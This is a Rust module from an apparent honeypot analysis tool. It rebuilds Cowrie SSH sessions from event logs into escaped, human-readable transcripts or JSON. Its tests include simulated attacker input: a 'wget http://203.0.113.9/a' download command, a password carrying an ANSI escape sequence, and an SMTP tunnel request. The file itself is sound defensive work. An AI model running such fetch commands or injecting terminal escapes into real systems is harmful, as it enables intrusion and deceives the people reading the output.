//! What happened in one session, told in order: from the session's event lines to a page a person reads, or its JSON form.
//!
//! Pure: lines in, [`Transcript`] out. Lines may come in any order and hold anything; what cannot be read is shown as such, and kinds of
//! event nobody has seen yet are shown by name and message. Values are kept as the attacker wrote them and escaped when rendered.
use super::terminal::{self, Colour, Output};
use crate::events::{Micros, time};
use serde::Serialize;
use serde_json::{Map, Value};
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::time::Duration;

/// Longest value shown in a rendered transcript, columns; JSON has all of it.
const VALUE_COLUMNS_MAX: usize = 2_000;

/// One session of one sensor.
#[derive(Clone, Debug, Default, PartialEq, Serialize)]
pub struct Transcript {
    pub session: String,
    pub sensor: Option<String>,
    pub src_ip: Option<String>,
    pub src_port: Option<u64>,
    pub dst_ip: Option<String>,
    pub dst_port: Option<u64>,
    pub protocol: Option<String>,
    /// The client's version string.
    pub version: Option<String>,
    pub hassh: Option<String>,
    /// Time of the first and of the last event, RFC 3339.
    pub started: Option<String>,
    pub ended: Option<String>,
    /// As the sensor measured it, or else between first and last event.
    pub duration_seconds: Option<f64>,
    /// The session's end was logged.
    pub closed: bool,
    /// Distinct URLs fetched or asked for, and SHA-256 of the files, in order of appearance.
    pub urls: Vec<String>,
    pub shasums: Vec<String>,
    pub logins_tried: u64,
    pub commands_typed: u64,
    pub entries: Vec<Entry>,
}

/// One event.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Entry {
    /// RFC 3339; none when the event has no time that can be read.
    pub time: Option<String>,
    #[serde(skip)]
    pub micros: Option<Micros>,
    pub eventid: String,
    #[serde(flatten)]
    pub action: Action,
}

/// What an event says happened.
#[derive(Clone, Debug, PartialEq, Serialize)]
#[serde(tag = "what", rename_all = "snake_case")]
pub enum Action {
    Connected,
    ClientVersion {
        version: String,
    },
    ClientKex {
        hassh: Option<String>,
    },
    KeyOffered {
        username: String,
        fingerprint: Option<String>,
    },
    Login {
        username: String,
        password: Option<String>,
        fingerprint: Option<String>,
        success: bool,
    },
    Command {
        input: String,
    },
    /// The honeypot knew the command, or did not.
    CommandOutcome {
        input: String,
        found: bool,
    },
    Download {
        url: Option<String>,
        shasum: Option<String>,
        destfile: Option<String>,
        failed: bool,
    },
    Upload {
        filename: Option<String>,
        shasum: Option<String>,
    },
    TunnelRequest {
        host: String,
        port: Option<u64>,
    },
    TunnelData {
        host: String,
        port: Option<u64>,
        data: String,
    },
    TerminalLog {
        ttylog: Option<String>,
        size: Option<u64>,
        closed: bool,
    },
    Closed {
        duration_seconds: Option<f64>,
    },
    /// Anything else: its message, or its fields where it has none.
    Other {
        text: String,
    },
    /// A line that is not a JSON object, and how it begins.
    Unreadable {
        text: String,
    },
}

/// An event and its time, if it has one that can be read.
type Timed = (Option<Micros>, Map<String, Value>);

/// The transcripts of all sessions in `lines`, one per (session, sensor), in order of their first event.
pub fn transcripts<Line: AsRef<[u8]>>(lines: &[Line]) -> Vec<Transcript> {
    let mut groups: BTreeMap<(String, Option<String>), Vec<Timed>> = BTreeMap::new();
    let mut unreadable = Vec::new();
    for line in lines {
        match read(line.as_ref()) {
            Some(event) => {
                let key = (text(&event, "session").unwrap_or_default(), text(&event, "sensor"));
                let at = event.get("timestamp").and_then(Value::as_str).and_then(|stamp| time::parse(stamp.as_bytes()));
                groups.entry(key).or_default().push((at, event));
            }
            None => unreadable.push(line.as_ref()),
        }
    }
    let mut transcripts: Vec<(Option<Micros>, Transcript)> = groups
        .into_iter()
        .map(|((session, sensor), mut events)| {
            // Stable: events of one microsecond stay in the order they were given.
            events.sort_by_key(|(at, _)| at.unwrap_or(Micros::MAX));
            (events[0].0, Transcript::of(session, sensor, &events))
        })
        .collect();
    transcripts.sort_by_key(|(at, _)| at.unwrap_or(Micros::MAX));
    let mut transcripts: Vec<Transcript> = transcripts.into_iter().map(|(_, transcript)| transcript).collect();
    if !unreadable.is_empty() {
        if transcripts.is_empty() {
            transcripts.push(Transcript::default());
        }
        let last = transcripts.len() - 1;
        transcripts[last].entries.extend(unreadable.into_iter().map(|line| Entry {
            time: None,
            micros: None,
            eventid: String::new(),
            action: Action::Unreadable { text: String::from_utf8_lossy(&line[..line.len().min(500)]).into_owned() },
        }));
    }
    transcripts
}

impl Transcript {
    fn of(session: String, sensor: Option<String>, events: &[Timed]) -> Transcript {
        let mut transcript = Transcript { session, sensor, ..Transcript::default() };
        for (at, event) in events {
            let eventid = text(event, "eventid").unwrap_or_default();
            let action = action(&eventid, event);
            transcript.note(&eventid, event, &action);
            transcript.entries.push(Entry { time: at.map(time::format), micros: *at, eventid, action });
        }
        let times = || transcript.entries.iter().filter_map(|entry| entry.micros);
        let (first, last) = (times().next(), times().next_back());
        if let (None, Some(first), Some(last)) = (transcript.duration_seconds, first, last) {
            transcript.duration_seconds = Some((last - first) as f64 / 1e6);
        }
        transcript.started = first.map(time::format);
        transcript.ended = last.map(time::format);
        transcript
    }

    /// Takes from an event what belongs in the head.
    fn note(&mut self, eventid: &str, event: &Map<String, Value>, action: &Action) {
        keep(&mut self.src_ip, || text(event, "src_ip"));
        keep(&mut self.protocol, || text(event, "protocol"));
        // Elsewhere these are the tunnel's.
        if eventid == "cowrie.session.connect" {
            keep(&mut self.src_port, || number(event, "src_port"));
            keep(&mut self.dst_ip, || text(event, "dst_ip"));
            keep(&mut self.dst_port, || number(event, "dst_port"));
        }
        match action {
            Action::ClientVersion { version } => {
                keep(&mut self.version, || Some(version.clone()));
                keep(&mut self.hassh, || text(event, "hassh"));
            }
            Action::ClientKex { hassh } => keep(&mut self.hassh, || hassh.clone()),
            Action::Login { .. } => self.logins_tried += 1,
            Action::Command { .. } => self.commands_typed += 1,
            Action::Closed { duration_seconds } => {
                self.closed = true;
                self.duration_seconds = *duration_seconds;
            }
            Action::Download { url, shasum, .. } => {
                push_new(&mut self.urls, url);
                push_new(&mut self.shasums, shasum);
            }
            Action::Upload { shasum, .. } => push_new(&mut self.shasums, shasum),
            _ => (),
        }
    }

    /// The transcript for a person, each line with its newline.
    pub fn render(&self, output: &Output) -> String {
        let mut page = String::new();
        let mut head = |name: &str, value: Option<String>| {
            if let Some(value) = value.filter(|value| !value.is_empty()) {
                let _ = writeln!(page, "{} {}", output.paint(Colour::Quiet, &format!("{name:<9}")), shown(&value, output, 10));
            }
        };
        let host = |ip: &Option<String>, port: Option<u64>| {
            ip.as_ref().map(|ip| match port {
                Some(port) if ip.contains(':') => format!("[{ip}]:{port}"),
                Some(port) => format!("{ip}:{port}"),
                None => ip.clone(),
            })
        };
        head("session", Some(self.session.clone()));
        head("sensor", self.sensor.clone());
        head("from", host(&self.src_ip, self.src_port));
        head("to", host(&self.dst_ip, self.dst_port));
        head("protocol", self.protocol.clone());
        head("client", self.version.clone());
        head("hassh", self.hassh.clone());
        head("start", self.started.clone());
        let lasted = self.duration_seconds.map(|seconds| {
            let lasted = terminal::duration(Duration::try_from_secs_f64(seconds).unwrap_or_default());
            if self.closed { lasted } else { format!("{lasted} (its end was not logged)") }
        });
        head("lasted", lasted);
        page.push('\n');
        let first = self.entries.iter().find_map(|entry| entry.micros);
        for entry in &self.entries {
            let offset = match (entry.micros, first) {
                (Some(at), Some(first)) => offset(at - first),
                _ => "?".to_owned(),
            };
            let (label, colour, text) = entry.action.describe(&entry.eventid);
            let label = terminal::truncate(&terminal::escape(&label), 10).into_owned();
            let label = if text.is_empty() { label } else { format!("{label:<10} ") };
            let time = output.paint(Colour::Quiet, &format!("{offset:>11}"));
            let _ = writeln!(page, "{time} {}{}", output.paint(colour, &label), shown(&text, output, 23));
        }
        page
    }
}

impl Action {
    /// What the event says beside its kind, not escaped yet.
    pub fn text(&self) -> String {
        match self {
            Action::Other { text } | Action::Unreadable { text } => text.clone(),
            known => known.describe("").2,
        }
    }

    /// Label of at most ten columns, colour, and the rest of the line, not escaped yet.
    pub(crate) fn describe(&self, eventid: &str) -> (String, Colour, String) {
        let label = |label: &str| label.to_owned();
        let or_none = |value: &Option<String>| value.clone().unwrap_or_else(|| "(none)".to_owned());
        let target = |host: &str, port: &Option<u64>| match port {
            Some(port) if host.contains(':') => format!("[{host}]:{port}"),
            Some(port) => format!("{host}:{port}"),
            None => host.to_owned(),
        };
        match self {
            Action::Connected => (label("connect"), Colour::Quiet, String::new()),
            Action::ClientVersion { version } => (label("client"), Colour::Quiet, version.clone()),
            Action::ClientKex { hassh } => (label("kex"), Colour::Quiet, format!("hassh {}", or_none(hassh))),
            Action::KeyOffered { username, fingerprint } => {
                (label("key"), Colour::Quiet, format!("{username} offers key {}", or_none(fingerprint)))
            }
            Action::Login { username, password, fingerprint, success } => {
                let credential = match (password, fingerprint) {
                    (Some(password), _) => format!("{username} / {password}"),
                    (None, Some(fingerprint)) => format!("{username} with key {fingerprint}"),
                    (None, None) => username.clone(),
                };
                if *success { (label("LOGGED IN"), Colour::Bad, credential) } else { (label("login"), Colour::Warning, credential) }
            }
            Action::Command { input } => (label("$"), Colour::Strong, input.clone()),
            Action::CommandOutcome { input, found } => (label(if *found { "found" } else { "not found" }), Colour::Quiet, input.clone()),
            Action::Download { url, shasum, destfile, failed } => {
                let mut line = url.clone().or_else(|| destfile.clone()).unwrap_or_default();
                if let Some(shasum) = shasum {
                    let _ = write!(line, "  sha256 {shasum}");
                }
                if *failed {
                    line.push_str("  (failed)");
                }
                (label(if url.is_some() { "download" } else { "file" }), Colour::Bad, line)
            }
            Action::Upload { filename, shasum } => {
                (label("upload"), Colour::Bad, format!("{}  sha256 {}", or_none(filename), or_none(shasum)))
            }
            Action::TunnelRequest { host, port } => (label("tunnel"), Colour::Warning, format!("to {}", target(host, port))),
            Action::TunnelData { host, port, data } => (label("tunnelled"), Colour::Warning, format!("to {}: {data}", target(host, port))),
            Action::TerminalLog { ttylog, size, closed } => {
                let size = size.map(|size| format!(", {}", terminal::bytes(size))).unwrap_or_default();
                (label(if *closed { "log closed" } else { "log opened" }), Colour::Quiet, format!("{}{size}", or_none(ttylog)))
            }
            Action::Closed { .. } => (label("closed"), Colour::Quiet, String::new()),
            Action::Other { text } => {
                let name = eventid.strip_prefix("cowrie.").unwrap_or(eventid);
                // Ten columns are too few for most names: they go into the text.
                (label("event"), Colour::Quiet, if text.is_empty() { name.to_owned() } else { format!("{name}: {text}") })
            }
            Action::Unreadable { text } => (label("unreadable"), Colour::Bad, text.clone()),
        }
    }
}

fn action(eventid: &str, event: &Map<String, Value>) -> Action {
    let field = |key: &str| text(event, key);
    let username = || field("username").unwrap_or_default();
    let input = || field("input").unwrap_or_default();
    let tunnel = || (field("dst_ip").unwrap_or_default(), number(event, "dst_port"));
    match eventid.strip_prefix("cowrie.").unwrap_or_default() {
        "session.connect" => Action::Connected,
        "client.version" => Action::ClientVersion { version: field("version").unwrap_or_default() },
        "client.kex" => Action::ClientKex { hassh: field("hassh") },
        "client.fingerprint" => Action::KeyOffered { username: username(), fingerprint: field("fingerprint") },
        kind @ ("login.failed" | "login.success") => Action::Login {
            username: username(),
            password: field("password"),
            fingerprint: field("fingerprint"),
            success: kind == "login.success",
        },
        "command.input" | "session.input" => Action::Command { input: input() },
        "command.success" => Action::CommandOutcome { input: input(), found: true },
        "command.failed" => Action::CommandOutcome { input: input(), found: false },
        kind @ ("session.file_download" | "session.file_download.failed") => Action::Download {
            url: field("url"),
            shasum: field("shasum"),
            destfile: field("destfile"),
            failed: kind == "session.file_download.failed",
        },
        "session.file_upload" => Action::Upload { filename: field("filename"), shasum: field("shasum") },
        "direct-tcpip.request" => {
            let (host, port) = tunnel();
            Action::TunnelRequest { host, port }
        }
        "direct-tcpip.data" => {
            let (host, port) = tunnel();
            Action::TunnelData { host, port, data: field("data").unwrap_or_default() }
        }
        kind @ ("log.open" | "log.closed") => {
            Action::TerminalLog { ttylog: field("ttylog"), size: number(event, "size"), closed: kind == "log.closed" }
        }
        "session.closed" => Action::Closed { duration_seconds: duration_seconds(event) },
        _ => Action::Other { text: message(event) },
    }
}

/// `duration_ms`, or `duration` as number or string of seconds: what Cowrie wrote over the years.
fn duration_seconds(event: &Map<String, Value>) -> Option<f64> {
    let seconds = match (event.get("duration_ms"), event.get("duration")) {
        (Some(millis), _) => millis.as_f64()? / 1e3,
        (None, Some(Value::String(seconds))) => seconds.parse().ok()?,
        (None, seconds) => seconds?.as_f64()?,
    };
    (seconds.is_finite() && seconds >= 0.0).then_some(seconds)
}

/// The message if it says something, else the fields that are not shared by all events.
fn message(event: &Map<String, Value>) -> String {
    match event.get("message") {
        Some(Value::String(message)) if !message.is_empty() => return message.clone(),
        Some(Value::Array(parts)) if !parts.is_empty() => {
            return parts.iter().map(scalar).collect::<Vec<_>>().join(" ");
        }
        _ => (),
    }
    const SHARED: &[&str] = &[
        "eventid",
        "timestamp",
        "session",
        "sensor",
        "src_ip",
        "src_port",
        "dst_ip",
        "dst_port",
        "message",
        "protocol",
        "uuid",
        "system",
        "isError",
        "format",
    ];
    let own = event.iter().filter(|(key, _)| !SHARED.contains(&key.as_str()));
    own.map(|(key, value)| format!("{key}={}", scalar(value))).collect::<Vec<_>>().join(" ")
}

/// One line as a JSON object. What serde_json refuses but logs hold all the same is mended first: bytes that are not UTF-8, and escapes of
/// half a surrogate pair.
fn read(line: &[u8]) -> Option<Map<String, Value>> {
    if let Ok(event) = serde_json::from_slice(line) {
        return Some(event);
    }
    serde_json::from_str(&without_lone_surrogates(&String::from_utf8_lossy(line))).ok()
}

fn without_lone_surrogates(json: &str) -> String {
    let unit = |at: usize| -> Option<u32> {
        let digits = json.get(at..)?.strip_prefix("\\u")?.get(..4)?;
        u32::from_str_radix(digits, 16).ok()
    };
    let bytes = json.as_bytes();
    let (mut out, mut copied, mut at) = (String::with_capacity(json.len()), 0, 0);
    while let Some(step) = memchr::memchr(b'\\', &bytes[at..]) {
        at += step;
        match unit(at) {
            Some(0xD800..0xDC00) if matches!(unit(at + 6), Some(0xDC00..0xE000)) => at += 12,
            Some(0xD800..0xE000) => {
                out.push_str(&json[copied..at]);
                out.push('\u{fffd}');
                at += 6;
                copied = at;
            }
            // Any other escape is two bytes at least, the second of which may be a backslash.
            _ => at = (at + 2).min(bytes.len()),
        }
    }
    out.push_str(&json[copied..]);
    out
}

/// A field as text, whatever its type; absent and null are none.
fn text(event: &Map<String, Value>, key: &str) -> Option<String> {
    event.get(key).filter(|value| !value.is_null()).map(scalar)
}

fn scalar(value: &Value) -> String {
    match value {
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

/// A field as a number, also when it was written as a string.
fn number(event: &Map<String, Value>, key: &str) -> Option<u64> {
    match event.get(key)? {
        Value::String(text) => text.parse().ok(),
        value => value.as_u64(),
    }
}

fn keep<T>(slot: &mut Option<T>, value: impl FnOnce() -> Option<T>) {
    if slot.is_none() {
        *slot = value();
    }
}

fn push_new(list: &mut Vec<String>, value: &Option<String>) {
    if let Some(value) = value.as_ref().filter(|value| !list.contains(value)) {
        list.push(value.clone());
    }
}

/// Escaped, and cut where it would fill screens. Lines are not cut to the terminal's width: a command is evidence.
pub(super) fn shown(text: &str, output: &Output, indent: usize) -> String {
    let limit = output.columns.map_or(VALUE_COLUMNS_MAX, |columns| VALUE_COLUMNS_MAX.max(columns.saturating_sub(indent)));
    terminal::truncate(&terminal::escape(text), limit).into_owned()
}

/// `+0:00.000`, `+1:02:03.456`
pub(crate) fn offset(micros: Micros) -> String {
    let (sign, micros) = if micros < 0 { ('-', micros.unsigned_abs()) } else { ('+', micros.unsigned_abs()) };
    let (seconds, millis) = (micros / 1_000_000, micros / 1_000 % 1_000);
    match seconds / 3_600 {
        0 => format!("{sign}{}:{:02}.{millis:03}", seconds / 60, seconds % 60),
        hours => format!("{sign}{hours}:{:02}:{:02}.{millis:03}", seconds / 60 % 60, seconds % 60),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::simulate::{Generator, Shape, Simulation, hostile};

    /// A session's lines, its end first.
    fn lines() -> Vec<String> {
        let tunnel = r#""dst_ip":"mail.example.com","dst_port":25,"src_ip":"192.0.2.7","src_port":1"#;
        [
            ("session.closed", "12.500000", r#""duration":"12.5","message":"Connection lost","src_ip":"192.0.2.7","protocol":"ssh""#),
            ("session.connect", "00.000000", r#""src_ip":"192.0.2.7","src_port":4711,"dst_ip":"192.0.2.1","dst_port":22"#),
            ("client.version", "00.100000", r#""version":"SSH-2.0-Go""#),
            ("login.failed", "01", r#""username":"root","password":"\u001b[31m""#),
            ("login.success", "02", r#""username":"","password":"x""#),
            ("command.input", "03", r#""input":"wget http://203.0.113.9/a""#),
            ("session.file_download", "04", r#""url":"http://203.0.113.9/a","shasum":"00ff""#),
            ("direct-tcpip.request", "05", tunnel),
            ("new.kind", "06", r#""colour":"blue","depth":3"#),
        ]
        .map(|(kind, second, fields)| {
            let stamp = format!("2026-03-22T00:00:{second}Z");
            format!(r#"{{"eventid":"cowrie.{kind}",{fields},"sensor":"hive","timestamp":"{stamp}","session":"c0ffee123456"}}"#)
        })
        .to_vec()
    }

    #[test]
    fn tells_a_session_in_order_whatever_the_order_of_its_lines() {
        let transcripts = transcripts(&lines());
        let [transcript] = transcripts.as_slice() else { panic!("{} transcripts", transcripts.len()) };
        assert_eq!(
            transcript.render(&Output::plain()),
            "\
session   c0ffee123456
sensor    hive
from      192.0.2.7:4711
to        192.0.2.1:22
protocol  ssh
client    SSH-2.0-Go
start     2026-03-22T00:00:00.000000Z
lasted    12.5 s

  +0:00.000 connect
  +0:00.100 client     SSH-2.0-Go
  +0:01.000 login      root / \\x1b[31m
  +0:02.000 LOGGED IN   / x
  +0:03.000 $          wget http://203.0.113.9/a
  +0:04.000 download   http://203.0.113.9/a  sha256 00ff
  +0:05.000 tunnel     to mail.example.com:25
  +0:06.000 event      new.kind: colour=blue depth=3
  +0:12.500 closed
"
        );
        assert_eq!((transcript.logins_tried, transcript.commands_typed), (2, 1));
    }

    #[test]
    fn the_json_form_keeps_values_as_they_were() {
        let json = serde_json::to_value(&transcripts(&lines())[0]).unwrap();
        assert_eq!(json["started"], "2026-03-22T00:00:00.000000Z");
        assert_eq!(json["duration_seconds"], 12.5);
        assert_eq!(json["entries"][2]["what"], "login");
        assert_eq!(json["entries"][2]["password"], "\u{1b}[31m");
        assert_eq!(json["entries"][2]["success"], false);
        assert_eq!(json["urls"], serde_json::json!(["http://203.0.113.9/a"]));
    }

    #[test]
    fn sensors_that_share_an_id_are_told_apart() {
        let line = |sensor: &str, second: u32| {
            format!(r#"{{"eventid":"cowrie.session.connect","sensor":"{sensor}","session":"1","timestamp":"2026-03-22T00:00:0{second}Z"}}"#)
        };
        let told = transcripts(&[line("b", 1), line("a", 2), line("b", 3)]);
        assert_eq!(told.iter().map(|one| (one.sensor.as_deref(), one.entries.len())).collect::<Vec<_>>(), [(Some("b"), 2), (Some("a"), 1)]);
    }

    #[test]
    fn every_drift_of_durations_is_understood() {
        for (field, seconds) in [
            (r#""duration_ms":417"#, Some(0.417)),
            (r#""duration":"1.5""#, Some(1.5)),
            (r#""duration":2.25"#, Some(2.25)),
            (r#""duration":"inf""#, None),
            (r#""duration":-1"#, None),
            (r#""duration":[]"#, None),
        ] {
            let line = format!(r#"{{"eventid":"cowrie.session.closed",{field}}}"#);
            assert_eq!(transcripts(&[line])[0].duration_seconds, seconds, "{field}");
        }
    }

    #[test]
    fn hostile_lines_come_out_harmless_and_none_is_dropped() {
        let lines = hostile::lines();
        let told = transcripts(&lines);
        assert_eq!(told.iter().map(|one| one.entries.len()).sum::<usize>(), lines.len());
        for transcript in &told {
            let page = transcript.render(&Output { terminal: true, colour: false, columns: Some(80) });
            assert!(page.chars().all(|character| character == '\n' || !character.is_control()), "{page}");
            assert!(!page.contains(['\u{202e}', '\u{2028}', '\u{200b}']));
            assert!(page.lines().all(|line| line.len() < 4 * VALUE_COLUMNS_MAX + 200));
        }
    }

    #[test]
    fn halves_of_surrogate_pairs_and_foreign_encodings_do_not_hide_an_event() {
        for line in [
            br#"{"eventid":"cowrie.command.input","input":"a\ud800b","session":"1"}"#.as_slice(),
            br#"{"eventid":"cowrie.command.input","input":"\udc00\ud83d\\u0041","session":"1"}"#,
            b"{\"eventid\":\"cowrie.command.input\",\"input\":\"\xe9\",\"session\":\"1\"}",
        ] {
            let told = transcripts(&[line]);
            assert!(matches!(&told[0].entries[0].action, Action::Command { input } if input.contains('\u{fffd}')), "{told:?}");
        }
        assert_eq!(without_lone_surrogates(r"\ud83d\ude00 \\ud800 \"), r"\ud83d\ude00 \\ud800 \");
    }

    #[test]
    fn simulated_sessions_are_understood_in_full() {
        for shape in [Shape::Modern, Shape::Legacy] {
            let lines: Vec<Vec<u8>> = Generator::new(&Simulation { shape, sessions: Some(300), ..Simulation::default() }).collect();
            let told = transcripts(&lines);
            assert_eq!(told.len(), 300);
            for transcript in &told {
                assert!(transcript.closed && transcript.duration_seconds.is_some() && transcript.src_port.is_some());
                assert!(matches!(transcript.entries[0].action, Action::Connected));
            }
        }
    }
}
